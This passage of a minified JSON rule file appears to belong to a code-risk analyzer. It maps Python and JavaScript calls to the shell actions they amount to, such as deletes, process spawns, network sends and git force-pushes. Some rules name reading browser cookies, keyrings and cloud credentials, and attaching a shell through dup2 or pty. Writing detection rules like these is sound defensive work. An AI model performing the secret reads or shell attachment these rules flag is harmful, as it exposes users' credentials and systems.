+"],"deletes":["^\\\\s*(?:sudo\\\\s+)?(?:rm|truncate|shred)\\\\s"],"below_new_folder":["^/tmp/(?:tmp[.])?\\\\u{FFFC}/","u"],"new_path":["^/tmp/(?:tmp\\\\.)?\\\\uFFFC(?=/|$)"\
+],"peer_parameter":["^(?:req|request|reader)$"],"class_name":["^[A-Z]\\\\w*$"],"class_or_self":["^(?:self|cls|this|[A-Z]\\\\w*)$"],"field":["^(?:self\\\\.|this\\\\.|\\\\$\
+this\\\\.|@\\\\w)"],"nothing":["^(?:None|null|undefined|nil|undef)$"],"nothing_or_false":["^(?:None|null|undefined|nil|undef|false|False)$"],"encoding":["^(base64|h\
+ex)(?:url)?$"],"unread_encoding":["^(?:rot13|zlib|zip|bz2|uu)$"],"program_call":["^(?:sh|plumbum\\\\.cmd)\\\\.(\\\\w+)(?:\\\\.bake)?$"],"text_method":["^(?:str|bytes)\\\\\
+.([lr]?strip|lower|upper|r?split|splitlines|encode|decode)$"],"own_method":["^(?:self|this|\\\\$this)\\\\.(\\\\w+)$"],"static_method":["^(?:self|this|[A-Z]\\\\w*)\\\\.(\\\\\
+w+)$"],"true_or_false":["^(?:True|False|true|false)$"],"entry_path":["^((?:.*/)?)(?:\\\\*|\\\\u{FFFC}+\\\\u{FFF9}?|\\\\*?\\\\.?[\\\\w.-]+)$","su"],"uses_arguments":["arg|sh\
+ift|\\\\$[1-9*@]","i"],"uses_environment":["env","i"],"uses_input":["stdin|input|gets|readline|<>|\\\\$_|\\\\$<|readfile|read\\\\(|argf|ARGV|\\\\$\\\\d|getline|print","i"]}\
+,"texts":{"XML or HTML":["^\\\\s*<(!doctype|\\\\?xml|[a-z][\\\\w-]*(\\\\s[^>]*)?>)","i"],"Markdown":["^\\\\s*(\`\`\`|#{1,6} \\\\S|\\\\||[-*] \\\\S)|\\\\n\`\`\`"],"a log":["^\\\\s*(\\\\[?\\\\\
+d{4}-\\\\d\\\\d-\\\\d\\\\d[T ]|Traceback \\\\(most recent|\\\\w*Error: )|\\\\n\\\\s+at \\\\S+ \\\\("],"a sentence":["^\\\\s*\\\\p{Lu}[\\\\p{L}'\\u2019]*[, ]\\\\s*\\\\p{L}[^\\\\n]*[.!?:)](\\\\s|$)\
+","u"]}},"languages":{"languages":{"python":{"lexer":{"comment":["#"],"sigils":"","interpolation":"f_string","triple":true,"single_escapes":true,"quoting":"none\
+","patterns":false,"lines":"indent"},"program":"python3","blocks":"indent","member_operators":["."],"concatenation_operators":[],"bare_calls":false,"function_ke\
+ywords":["def"],"inputs":{"sys.argv":"argv","os.environ":"environment","sys.stdin":"lines","flask.request.args":"peer","flask.request.form":"peer","flask.reques\
+t.data":"peer","flask.request.json":"peer","flask.request.values":"peer","flask.request.headers":"peer","bottle.request.query":"peer","bottle.request.forms":"pe\
+er","bottle.request.body":"peer","self.rfile":"peer"},"sdks":["boto3.","botocore.session.","botocore.client.","aiobotocore.","aioboto3.","google.cloud.","google\
+apiclient.","firebase_admin.","azure.","kubernetes.","openshift.","digitalocean.","pydo.","hcloud.","linode_api4.","oci.","openstack.","libcloud.","stripe.","gi\
+thub.Github","gitlab.","heroku3.","cloudflare.","CloudFlare.","elasticsearch.","opensearchpy.","minio.","hvac.","pinecone.","qdrant_client.","weaviate.","pymilv\
+us.","algoliasearch.","meilisearch.","typesense.","confluent_kafka.","kafka.","pulsar.","auth0.","okta.","shopify.","twilio.","sendgrid.","supabase.","appwrite.\
+","contentful_management.","huggingface_hub.","wandb.","mlflow.","comet_ml.","slack_sdk.","slack.","pyVmomi.","proxmoxer.","vercel.","netlify.","tencentcloud.",\
+"aliyunsdk","alibabacloud","openai.","influxdb_client.","datadog_api_client.","pulumi.","pagerduty.","pdpyras.","jira.","atlassian.","notion_client.","asana.","\
+replicate.","discord.","bigcommerce.","woocommerce.","pyairtable.","zenpy.","kr8s.","lightkube.","gspread.","ldap3.","etcd3.","kazoo.","asyncssh.","pysftp.","sm\
+bclient.","dropbox.","cloudinary.","mailchimp_marketing.","intercom.","pyzenodo.","trello.","praw.","tweepy.","boxsdk.","msgraph.","exchangelib.","simple_salesf\
+orce.","hubspot."],"texts":{"stat.S_ISUID":"u+s","stat.S_ISGID":"g+s","sys.executable":"python3","os.sep":"/","os.curdir":".","os.pardir":"..","__file__":"./pro\
+gram.py","string.ascii_lowercase":"abcdefghijklmnopqrstuvwxyz"},"aliases":{"posix.system":"os.system","nt.system":"os.system","io.open":"open","codecs.open":"op\
+en","Path":"pathlib.Path","subprocess.os.system":"os.system","urllib2.urlopen":"urllib.request.urlopen","urllib.urlopen":"urllib.request.urlopen","urllib.urlret\
+rieve":"urllib.request.urlretrieve","pd.read_csv":"pandas.read_csv"},"rewrites":[["^(?:builtins|__builtins__|os\\\\.sys\\\\.modules|sys\\\\.modules|six\\\\.moves)\\\\.|\\\\\
+.__dict__|\\\\.__call__$",""],["^Path(?=\\\\.)","pathlib.Path"],["^mock\\\\.(?=\\\\w)","unittest.mock."],["^moto\\\\.(?:\\\\w+\\\\.)?mock_\\\\w+$","moto.mock_aws"],["^aiofiles\\\
+\\.(?=os\\\\.|open$)",""],["^aioshutil\\\\.","shutil."],["^(?:(?:anyio|trio)\\\\.Path|aiopath\\\\.AsyncPath)(?=\\\\.|$)","pathlib.Path"]],"functions":{"print":"print","sys\
+.stdout.write":"print text","input":"input","raw_input":"input","open":"open $0:file $1:mode","os.remove":"run rm $0:path","os.unlink":"run rm $0:path","pathlib\
+.Path.unlink":"run rm $0:path","os.rmdir":"run rmdir $0:path","pathlib.Path.rmdir":"run rmdir $0:path","os.removedirs":"run rmdir -p $0:name","shutil.rmtree":"r\
+un rm -rf $0:path","send2trash.send2trash":"run rm -rf $0","plyvel.destroy_db":"run rm -rf $0","os.rename":"run mv $0:src $1:dst","os.replace":"run mv $0:src $1\
+:dst","os.renames":"run mv $0:src $1:dst","shutil.move":"run mv $0:src $1:dst","shutil.copy":"run cp $0:src $1:dst","shutil.copy2":"run cp $0:src $1:dst","shuti\
+l.copyfile":"run cp $0:src $1:dst","shutil.copytree":"run cp -r $0:src $1:dst","os.link":"run ln $0 $1","os.symlink":"run ln -s $0 $1","os.truncate":"run trunca\
+te -s 0 $0","os.mkfifo":"run mkfifo $0","os.mknod":"run mknod $0","os.chmod":"chmod $0:path $1:mode","os.chown":"run chown $1:uid:user $0:path","os.lchown":"run\
+ chown $1:uid:user $0:path","shutil.chown":"run chown $1:uid:user $0:path","os.open":"open $0 $1 flags","tempfile.NamedTemporaryFile":"made written /tmp/tempora\
+ry","os.system":"shell $0:command:cmd","os.popen":"shell $0:command:cmd","commands.getoutput":"shell $0:command:cmd","asyncio.create_subprocess_shell":"shell $0\
+:command:cmd","asyncio.create_subprocess_exec":"program $all","pty.spawn":"attach-shell $0 | program $0","pexpect.spawn":"shell $0:args:command:cmd $:input:stdi\
+n","pexpect.run":"shell $0:args:command:cmd $:input:stdin","subprocess.run":"shell $0:args:command:cmd $:input:stdin","subprocess.call":"shell $0:args:command:c\
+md $:input:stdin","subprocess.check_call":"shell $0:args:command:cmd $:input:stdin","subprocess.check_output":"shell $0:args:command:cmd $:input:stdin","subproc\
+ess.Popen":"shell $0:args:command:cmd $:input:stdin","subprocess.getoutput":"shell $0:args:command:cmd $:input:stdin","subprocess.getstatusoutput":"shell $0:arg\
+s:command:cmd $:input:stdin","os.execl":"execute $0 $1..","os.execlp":"execute $0 $1..","os.execle":"execute $0 $1..","os.execlpe":"execute $0 $1..","os.execv":\
+"execute $0 $1..","os.execvp":"execute $0 $1..","os.execve":"execute $0 $1..","os.execvpe":"execute $0 $1..","os.posix_spawn":"execute $0 $1..","os.spawnl":"exe\
+cute $1 $2..","os.spawnlp":"execute $1 $2..","os.spawnle":"execute $1 $2..","os.spawnlpe":"execute $1 $2..","os.spawnv":"execute $1 $2..","os.spawnvp":"execute \
+$1 $2..","os.spawnve":"execute $1 $2..","os.spawnvpe":"execute $1 $2..","sh.Command":"made program","os.dup2":"attach-shell /bin/sh | value","os.kill":"kill $0 \
+$1","os.killpg":"kill $0 $1 group","psutil.Process":"made psutil.Process","psutil.process_iter":"entries any-process","psutil.pids":"entries","os.listdir":"name\
+s $0","os.fork":"if-sign:repeats run fork","os.setuid":"run setuid $last","os.seteuid":"run setuid $last","os.setresuid":"run setuid $last","os.setgid":"run set\
+gid $last","os.chroot":"run chroot $0","ctypes.CDLL":"made library","exec":"eval $0","eval":"eval $0","fileinput.input":"if-no-sign:writes if-option:inplace=Tru\
+e run truncate -s 0 $0:files | read $0","flask.request.get_json":"received","flask.request.get_data":"received","urllib.parse.parse_qs":"received","urllib.parse\
+.parse_qsl":"received","cgi.FieldStorage":"received","psutil.net_connections":"run lsof -i","os.write":"send $0 $1","mailbox.mbox":"read $0","mailbox.Maildir":"\
+read $0","execfile":"read $0","linecache.getlines":"read $0","numpy.loadtxt":"read $0","pandas.read_csv":"read $0","pandas.read_json":"read $0","dotenv.dotenv_v\
+alues":"read $0","envparse.env.read_envfile":"read $0","importlib.util.spec_from_file_location":"run python3 $1","runpy.run_path":"run python3 $0","pickle.load"\
+:"load $0","pickle.loads":"load $0","dill.load":"load $0","dill.loads":"load $0","joblib.load":"load $0","torch.load":"load $0","marshal.loads":"load $0","zipfi\
+le.ZipFile":"made archive $0","tarfile.open":"open $0:file:name $1:mode","gzip.open":"open $0:file:name $1:mode","bz2.open":"open $0:file:name $1:mode","lzma.op\
+en":"open $0:file:name $1:mode","shelve.open":"made store $0","dbm.open":"made store $0","lmdb.open":"made store $0","plyvel.DB":"made store $0","diskcache.Cach\
+e":"made store $0","h5py.File":"made store $0","zarr.open":"made store $0","zarr.open_group":"made store $0","tinydb.TinyDB":"made store $0","twine.commands.upl\
+oad.main":"run twine upload x","twine.commands.upload.upload":"run twine upload x","configparser.ConfigParser":"made config","configparser.RawConfigParser":"mad\
+e config","sqlalchemy.update":"made whole-update","sqlalchemy.sql.update":"made whole-update","crontab.CronTab":"if-option:tab if-no-sign:installs-cron made moc\
+k | made crontab","secretstorage.get_default_collection":"run secret-tool lookup x","secretstorage.get_all_collections":"run secret-tool lookup x","secretstorag\
+e.search_items":"run secret-tool lookup x","browser_cookie3.chrome":"run secret-tool lookup x","browser_cookie3.firefox":"run secret-tool lookup x","browser_coo\
+kie3.edge":"run secret-tool lookup x","browser_cookie3.load":"run secret-tool lookup x","dulwich.porcelain.push":"if-option:force=True run git push --force","du\
+lwich.porcelain.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","git_filter_repo.RepoFilter":"run git filter-repo --force","git.Head.delete":"if-option:\
+force=True run git branch -D","os.fdopen":"value $0","psycopg.sql.SQL":"value $0","psycopg2.sql.SQL":"value $0","sql.SQL":"value $0","asyncio.wait_for":"value $\
+0","vars":"value $0","os.path.expanduser":"value $0","text":"value $0","sqlalchemy.text":"value $0","staticmethod":"value $0","classmethod":"value $0","asyncio.\
+gather":"value $0..","__import__":"module $0","importlib.import_module":"module $0","getattr":"attribute $0 $1","enumerate":"numbered $0","dotenv.set_key":"writ\
+e $0 $1","dotenv.unset_key":"write $0 $1","next":"any-of $0","zip":"rows","itertools.zip_longest":"rows","itertools.chain":"flat","itertools.chain.from_iterable\
+":"flat $0","operator.attrgetter":"value","globals":"name builtins","functools.partial":"made bound $0 $1..","git.Repo":"made git $0","git.repo.Repo":"made git \
+$0","git.Repo.init":"made git $0","git.Repo.clone_from":"made git $0","pygit2.Repository":"made git $0","pygit2.init_repository":"made git $0","unittest.mock.Ma\
+gicMock":"mock","unittest.mock.AsyncMock":"mock","unittest.mock.Mock":"mock","unittest.mock.NonCallableMock":"mock","unittest.mock.create_autospec":"mock","unit\
+test.mock.mock_open":"mock","OSError":"made error","IOError":"made error","FileNotFoundError":"made error","PermissionError":"made error","RuntimeError":"made e\
+rror","ValueError":"made error","KeyError":"made error","TypeError":"made error","TimeoutError":"made error","ConnectionError":"made error","Exception":"made er\
+ror","subprocess.CalledProcessError":"made error","subprocess.TimeoutExpired":"made error","unittest.mock.patch":"patcher $0:target $1:new","unittest.mock.patch\
+.object":"patcher $0:target $1:attribute $2:new","setattr":"imitate $0 $1 $2","pytest.MonkeyPatch":"made monkeypatch","moto.mock_aws":"if-no-sign:keeps-real if-\
+no-sign:other-imports patcher services","botocore.stub.Stubber":"if-no-sign:keeps-real if-no-sign:other-imports if-no-sign:several-clients patcher services","re\
+sponses.activate":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","responses.RequestsMock":"if-no-sign:keeps-real if-no-sign:other-requests p\
+atcher requests","requests_mock.Mocker":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","requests_mock.mock":"if-no-sign:keeps-real if-no-sig\
+n:other-requests patcher requests","respx.mock":"if-no-sign:keeps-real if-no-sign:besides-httpx patcher requests","pyfakefs.fake_filesystem_unittest.Patcher":"i\
+f-no-sign:keeps-real if-no-sign:other-files patcher files","airflow.utils.db.resetdb":"run sql drop-database db","fsspec.filesystem":"if-says:^memory$ made mock\
+","operator.methodcaller":"made message $0 $1..","string.Template":"made template $0","email.message.EmailMessage":"made mail","email.mime.text.MIMEText":"made \
+mail","email.mime.multipart.MIMEMultipart":"made mail","keyring.get_password":"secret","keyring.get_credential":"secret","netrc.netrc":"secret","dict":"from-pai\
+rs $0","huggingface_hub.scan_cache_dir":"made mock","httpx.MockTransport":"made mock","chromadb.EphemeralClient":"made mock","sqlalchemy.create_mock_engine":"ma\
+de mock","duckdb.connect":"if-none made database :memory: | made database $0:database","shlex.split":"split $0","json.loads":"parse-json $0","tempfile.mktemp":"\
+value /tmp/\\ufffc","tempfile.mkdtemp":"new-folder","tempfile.TemporaryDirectory":"new-folder","sqlalchemy.delete":"made whole","sqlalchemy.sql.delete":"made who\
+le","sqlalchemy.sql.expression.delete":"made whole","alembic.command.downgrade":"run alembic downgrade $1:revision","invoke.run":"shell $0","os.path.join":"join\
+ $all","pathlib.Path":"join $all","pathlib.PosixPath":"join $all","pathlib.Path.home":"value ~","pathlib.Path.cwd":"value .","os.getcwd":"value .","os.getenv":"\
+environment $0 $1:default","os.environ.get":"environment $0 $1:default","os.environ.copy":"environment $0 $1:default","os.path.dirname":"dirname $0","tempfile.m\
+kstemp":"temporary-pair","os.walk":"walk $0","os.scandir":"folder $0","glob.glob":"glob $0","glob.iglob":"glob $0","codecs.decode":"decode $0 $1","shutil.make_a\
+rchive":"run tar -cf $0 $2:root_dir","socket.create_connection":"connect $all","sqlite3.connect":"made database $0","socket.socket":"made socket","socket.gethos\
+tbyname":"run nslookup $0","dns.resolver.resolve":"run nslookup $0","dns.resolver.query":"run nslookup $0","smtplib.SMTP":"made connection","smtplib.SMTP_SSL":"\
+made connection","ftplib.FTP":"made connection","ftplib.FTP_TLS":"made connection","httpx.Client":"made rest $:base_url","httpx.AsyncClient":"made rest $:base_u\
+rl","paramiko.SFTPClient.from_transport":"made sftp","site.getusersitepackages":"value ~/.local/lib/python3/site-packages","paramiko.Transport":"made ssh","para\
+miko.SSHClient":"made ssh","fabric.Connection":"made ssh","fabric.SerialGroup":"made ssh","fabric.ThreadingGroup":"made ssh","invoke.Context":"made ssh","http.c\
+lient.HTTPSConnection":"made http","http.client.HTTPConnection":"made http","urllib.request.urlopen":"request GET $0:url $1:data","urllib.request.Request":"if-o\
+ption:method open-request $:method $0:url $1:data | made request $0:url $1:data","urllib.request.urlretrieve":"run curl -o $1 $0","requests.request":"request $0\
+ $1:url $:data $:json $:files $:content","requests.get":"request GET $0:url $:data $:json $:files $:content $:params","httpx.get":"request GET $0:url $:data $:j\
+son $:files $:content $:params","requests.post":"request POST $0:url $1 $:data $:json $:files $:content $:params","httpx.post":"request POST $0:url $1 $:data $:\
+json $:files $:content $:params","requests.put":"request PUT $0:url $1 $:data $:json $:files $:content $:params","httpx.put":"request PUT $0:url $1 $:data $:jso\
+n $:files $:content $:params","requests.patch":"request PATCH $0:url $1 $:data $:json $:files $:content $:params","httpx.patch":"request PATCH $0:url $1 $:data \
+$:json $:files $:content $:params","requests.delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:params","httpx.delete":"request DELETE $0:url $\
+1 $:data $:json $:files $:content $:params","requests.head":"request HEAD $0:url $1 $:data $:json $:files $:content $:params","httpx.head":"request HEAD $0:url \
+$1 $:data $:json $:files $:content $:params","requests.Session":"name requests","requests.session":"name requests","aiohttp.ClientSession":"name requests","winr\
+eg.DeleteKey":"run reg delete $1","django.core.management.call_command":"run django-admin $0","call_command":"run django-admin $0","numpy.save":"write $1","torc\
+h.save":"write $1","joblib.dump":"write $1"},"methods":{"exclude":"if-owner:objects$ made rows | if-name:objects made some-rows","splitlines":"if-text split $se\
+lf \\n","reset":"if-made:git if-says:hard$|Hard$|HARD$ run git reset --hard | if-git if-option:working_tree=True run git reset --hard","to_sql":"if-kept if-sign:\
+database-address if-option:if_exists=replace run sql drop-table $0","push":"if-option:dry_run value | if-option:force=True if-git run git push --force origin | \
+if-option:force=True if-owner:^(origin|remotes|remote)\\\\b|\\\\.remotes?\\\\b run git push --force origin | if-option:refspec run git push origin $:refspec","remove_\
+volume":"run docker volume rm $0","prune_volumes":"run docker volume prune -af","delete_head":"if-git if-option:force=True run git branch -D","remote":"if-git v\
+alue $self","delete_tag":"if-git run git tag -d","checkout_head":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","\
+checkout_index":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checkout":"if-git if-arg:list run git checkout --\
+ $0 | if-git if-says:FORCE|^True$ run git checkout -f","put":"if-made:sftp run scp -r $0 host:/x","new":"if-made:crontab run crontab -","write":"if-made:crontab\
+ run crontab - | if-made:archive read $0 | send $self $0","write_to_user":"if-made:crontab run crontab -","unlink":"if-made:library run rm $0 | if-gets:keys run\
+ sql flush FLUSHDB | if-made:sftp run cloud-sdk delete | if-sign:business-objects run sql delete-all rows | run rm $self","remove":"if-made:library run rm $0 | \
+if-made:sftp run cloud-sdk delete | if-made:docker-volume run docker volume rm $self","rmdir":"if-made:library run rm $0 | if-made:sftp run cloud-sdk delete | r\
+un rmdir $self","reboot":"if-made:library run reboot","add":"if-made:written read $0 | if-list append $self $all","get_frozen_credentials":"run aws configure ex\
+port-credentials","PowerOff":"run shutdown now","execute_command":"if-stored program redis-cli $all","filter":"if-name:objects made some-rows","delete":"if-made\
+:some-rows run sql delete-some rows | if-gets:keys run sql flush FLUSHDB | if-made:connection run cloud-sdk delete | if-made:rest request-over DELETE $0 | if-gi\
+t if-owner:^(references|branches|local|heads|tags)$ run git update-ref -d refs/heads/x","update":"if-made:some-rows run sql delete-some rows | if-name:objects r\
+un sql update-all rows | if-made:rows run sql update-all rows | if-list append $self $all","rmd":"if-made:connection run cloud-sdk delete","open_sftp":"if-made:\
+ssh made sftp","rm":"if-option:recursive=True run cloud-sdk delete","run":"if-made:ssh shell $0 | if-name:containers docker-run | sql $0:query:sql","sudo":"if-m\
+ade:ssh shell $0","scan_iter":"if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored entries keys","rmtree":"run rm -rf $self","read_text":"\
+read $self","read_bytes":"read $self","write_text":"write $self $0:data","write_bytes":"write $self $0:data","chmod":"chmod $self $0:mode","walk":"if-text walk \
+$self","read":"if-made:config read $0 | lines $self","set_content":"if-made:mail transfer sendmail $0 x","attach":"if-made:mail transfer sendmail $0 x","add_att\
+achment":"if-made:mail transfer sendmail $0 x","substitute":"if-made:template format $origin","safe_substitute":"if-made:template format $origin","values":"if-m\
+ade:whole-update value $self | if-map values $self","execution_options":"if-made:whole-update value $self","append":"if-list append $self $all","appendleft":"if\
+-list append $self $all","extend":"if-list append $self $all","insert":"if-list append $self $all","create":"if-name:containers docker-run","touch":"if-text run\
+ touch $self","rename":"if-text run mv $self $0","replace":"if-text if-args:2 replace $self $0 $1 | if-text if-args:1 run mv $self $0","symlink_to":"run ln -s $\
+0 $self","open":"if-text open $self $0:mode","writelines":"send $self $0","send":"send $self $0","sendall":"send $self $0","sendfile":"send $self $0","recv":"re\
+ceived","recvfrom":"received","recv_string":"received","recv_multipart":"received","makefile":"received","communicate":"send $self $0:input | value $self","read\
+lines":"value $self","expanduser":"value $self","resolve":"value $self","absolute":"value $self","as_posix":"value $self","readline":"any-of $self","text":"valu\
+e $0","glob":"glob $self $0","rglob":"glob $self ** $0","iterdir":"folder $self","connect":"if-made connect $all","connect_ex":"connect $all","sendto":"transfer\
+ nc $0 $1","sendmail":"if-made transfer sendmail $2 $self","send_message":"if-made transfer sendmail $0 $self","storbinary":"if-made transfer ftp $1 $self","req\
+uest":"request-over $0 $1 $2 $:body $:data $:json","exec_command":"shell $0","system":"if-made:library shell $0","kill":"if-made:any-process if-chosen kill $sel\
+f | if-made:any-process run pkill -KILL $:pid | if-made:psutil.Process run kill -KILL $origin","terminate":"if-made:any-process if-chosen kill $self | if-made:a\
+ny-process run pkill -TERM $:pid | if-made:psutil.Process run kill -TERM $origin","execute":"if-made:pending-delete run sql delete-all rows | sql $0:query:sql",\
+"write_database":"if-kept if-sign:database-address if-option:if_table_exists=replace run sql drop-table $0","sql":"sql $0:query:sql","executescript":"sql $0:que\
+ry:sql","executemany":"sql $0:query:sql","execute_query":"sql $0:query:sql","command":"sql $0:query:sql","execute_sql":"sql $0:query:sql","execute_async":"sql $\
+0:query:sql","cursor":"if-made:database value $self","get":"entry $self $0 | if-map environment $0 $1","items":"if-map pairs $self","add_argument":"declare-opti\
+on $:default","start":"start-patcher","__enter__":"start-patcher","setattr":"if-made:monkeypatch imitate $0 $1 $2","parse_args":"options","parse_known_args":"op\
+tions","list":"if-name:volumes entries docker-volume","prune":"if-name:volumes run docker volume prune -af"}},"javascript":{"lexer":{"comment":["//"],"block_com\
+ment":["/*","*/"],"sigils":"$#","interpolation":"template","triple":false,"single_escapes":true,"quoting":"none","patterns":true,"lines":"statements"},"program"\
+:"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"function_keywords":["function"],"inputs":{"process.argv\
+":"node-argv","Bun.argv":"node-argv","Deno.args":"args","process.env":"environment","Bun.env":"environment","process.stdin":"text"},"sdks":["aws-sdk.","aws-sdk/\
+","@aws-sdk/","@google-cloud/","googleapis","firebase-admin","@azure/","@kubernetes/","stripe","@octokit/","octokit","@slack/","@gitbeaker/","heroku-client","cl\
+oudflare","@vercel/","@netlify/","netlify","@elastic/","@opensearch-project/","minio","@pinecone-database/","@qdrant/","weaviate","algoliasearch","meilisearch",\
+"typesense","kafkajs","auth0","@okta/","@shopify/","twilio","@sendgrid/","@supabase/","node-appwrite","dots-wrapper","contentful-management","@digitalocean/","h\
+cloud-js","@linode/","oci-","@alicloud/","tencentcloud-sdk","openai","@pulumi/","@notionhq/","jira.js","@linear/","@datadog/","@launchdarkly/","@sanity/client",\
+"replicate","cloudinary","@mux/","imagekit","@mailchimp/","mailgun","@hubspot/","intercom-client","node-zendesk","@atlassian/","@clerk/","@contentful/","@storyb\
+lok/","@directus/","@strapi/","@neondatabase/api-client","@logtail/","bun.S3Client","Bun.S3Client","Bun.s3"],"texts":{"__dirname":".","__filename":"./program.js\
+","path.sep":"/","process.execPath":"node","process.pid":"\\ufffc"},"aliases":{},"rewrites":[["\\\\.(?:promises|default)(?=\\\\.|$)|\\\\.wrappedMethod$",""],["^(?:fs/p\
+romises|graceful-fs)","fs"],["^(?:(?:globalThis|global|window|self|module|process\\\\.mainModule|this|process)\\\\.(?=globalThis|global|process|require|module|const\
+ructor|eval|Function|mainModule|fetch))+",""],["^(fs|child_process|fs-extra|rimraf|Deno|Bun)\\\\.(\\\\w+?)Sync$","$1.$2"],["^(?:bun|zx|execa|dax)\\\\.\\\\$$","$$"],["^(\
+?:vitest|@jest/globals)\\\\.(?=(?:vi|jest)\\\\.)",""],["^fs-extra\\\\.(?!remove|emptyDir)","fs."],["^\\\\.{1,2}/(?:[\\\\w./-]*[./])?(?:db|knex)$","knex"],["^drizzle-orm/[\
+\\\\w-]+\\\\.drizzle$","drizzle"],["^(?:jsr:)?@std/fs(?:@[\\\\w.^]+)?(?:/[\\\\w-]+)?\\\\.","std."],["^(?:.*\\\\.)?constructor\\\\.constructor$|^(?:Async|Generator)Function$",\
+"Function"]],"functions":{"console.log":"print","console.info":"print","process.stdout.write":"print","require":"module $0","import":"module $0","process.getBui\
+ltinModule":"module $0","process.binding":"module $0","jest.requireActual":"module $0","vi.importActual":"module $0","createRequire":"name require","module.crea\
+teRequire":"name require","eval":"eval $0","vm.runInThisContext":"eval $0","vm.runInNewContext":"eval $0","vm.runInContext":"eval $0","vm.Script":"made vm-scrip\
+t $0","Function":"eval $last","setTimeout":"if-arg:text eval $0","child_process.exec":"shell $0 $:input","execa.execaCommand":"shell $0 $:input","shelljs.exec":\
+"shell $0 $:input","$":"shell $0 $:input","Bun.$":"shell $0 $:input","stream.pipeline":"pipe $0 $1","stream/promises.pipeline":"pipe $0 $1","execa":"if-arg:map \
+name $ | spawn $0 $1:args $:shell $:input","execa.execa":"if-arg:map name $ | spawn $0 $1:args $:shell $:input","child_process.spawn":"spawn $0 $1:args $:shell \
+$:input","child_process.execFile":"spawn $0 $1:args $:shell $:input","Deno.Command":"spawn $0 $1:args $:shell $:input","child_process.fork":"run node $0","shell\
+js.rm":"run rm $all","Bun.spawn":"shell $0:cmd $:stdin:input","Deno.run":"shell $0:cmd $:stdin:input","Bun.write":"write $0 $1","Deno.writeTextFile":"write $0 $\
+1","Deno.writeFile":"write $0 $1","fs.writeFile":"write $0 $1","fs.outputFile":"write $0 $1","Uint8Array":"value $:usual=","Buffer.alloc":"value $:usual=","Deno\
+.execPath":"value deno","libnpmpublish.unpublish":"run npm unpublish $0","libnpmpublish.publish":"run npm publish $0","ps-list":"if-none entries any-process","f\
+ind-process":"if-none entries any-process","fkill":"run pkill -f $0","keytar.findCredentials":"run secret-tool lookup x","keytar.getPassword":"run secret-tool l\
+ookup x","keytar.findPassword":"run secret-tool lookup x","level.Level":"made store $0:path","level":"made store $0:path","lmdb.open":"made store $0:path","clas\
+sic-level.ClassicLevel":"made store $0:path","rocksdb":"made store $0:path","leveldown":"made store $0:path","nedb":"made store $:filename","@seald-io/nedb":"ma\
+de store $:filename","bun.Glob":"made glob $0","Bun.Glob":"made glob $0","Deno.openKv":"if-says:^https made service","ssh2-sftp-client":"made sftp","isomorphic-\
+git.deleteTag":"if-real run git tag -d $:ref","isomorphic-git.deleteBranch":"if-real run git branch -D $:ref","isomorphic-git.checkout":"if-real if-option:force\
+=true run git checkout -f","isomorphic-git.push":"if-option:force=true run git push --force $:remote $:ref","nodegit.Reset.reset":"if-says:hard$|Hard$|HARD$ run\
+ git reset --hard","fs.appendFile":"write $0 $1 append","Deno.readTextFile":"read $0","fs.createReadStream":"read $0","Bun.file":"read $0","Deno.remove":"if-opt\
+ion:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm $0","fs.rm":"if-option:recursive if-optio\
+n:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm $0","fs.unlink":"run rm $0","fs.rmdir":"if-option:recursive run\
+ rm -r $0 | run rmdir $0","fs.remove":"run rm -rf $0","fs.emptyDir":"run rm -rf $0","fs-extra.remove":"run rm -rf $0","fs-extra.emptyDir":"run rm -rf $0","fs.cr\
+eateWriteStream":"open $0 w","fs.open":"open $0 $1","fs.readFile":"calls-back read $0","fs.truncate":"run truncate -s 0 $0","Deno.truncate":"run truncate -s 0 $\
+0","del.deleteAsync":"remove-matches $0 $:dryRun","del.deleteSync":"remove-matches $0 $:dryRun","del.del":"remove-matches $0 $:dryRun","del":"remove-matches $0 \
+$:dryRun","trash":"remove-matches $0","rimraf.rimraf":"remove-matches $0","rimraf.sync":"remove-matches $0","rimraf":"remove-matches $0","fs.mkdtemp":"new-folde\
+r","Deno.makeTempDir":"new-folder","os.tmpdir":"value /tmp","simple-git.simpleGit":"made git $0:baseDir","simple-git":"made git $0:baseDir","simple-git.default"\
+:"made git $0:baseDir","tar.c":"read $1","tar.create":"read $1","bun.SQL":"name bun.sql","Bun.SQL":"name bun.sql","better-sqlite3":"made database $0","better-sq\
+lite3.default":"made database $0","sqlite.DatabaseSync":"made database $0","bun:sqlite.Database":"made database $0","fs.rename":"run mv $0 $1","fs.move":"run mv\
+ $0 $1","fs.copyFile":"run cp $0 $1","fs.cp":"run cp -r $0 $1","fs.copy":"run cp -r $0 $1","fs.symlink":"run ln -s $0 $1","fs.link":"run ln $0 $1","fs.chmod":"c\
+hmod $0 $1","fs.chown":"run chown $1 $0","fs.lchown":"run chown $1 $0","fs.readdir":"if-option:withFileTypes=true calls-back folder $0 dirent | calls-back names\
+ $0","Deno.readDir":"calls-back names $0","fs.glob":"globs $0 $:cwd","glob.sync":"globs $0 $:cwd","glob.globSync":"globs $0 $:cwd","glob.glob":"globs $0 $:cwd",\
+"glob":"globs $0 $:cwd","globby.globby":"globs $0 $:cwd","globby.globbySync":"globs $0 $:cwd","globby":"globs $0 $:cwd","fast-glob":"globs $0 $:cwd","fast-glob.\
+sync":"globs $0 $:cwd","tinyglobby.glob":"globs $0 $:cwd","tinyglobby.globSync":"globs $0 $:cwd","Object.entries":"pairs $0","Object.values":"values $0","Object\
+.keys":"keys $0","Reflect.ownKeys":"keys $0","path.dirname":"dirname $0","ssh2.Client":"made ssh","node-ssh.NodeSSH":"made ssh","process.kill":"kill $0 $1","pro\
+cess.setuid":"run setuid $0","process.setgid":"run setgid $0","process.cwd":"value .","Deno.cwd":"value .","JSON.parse":"parse-json $0","os.homedir":"value ~","\
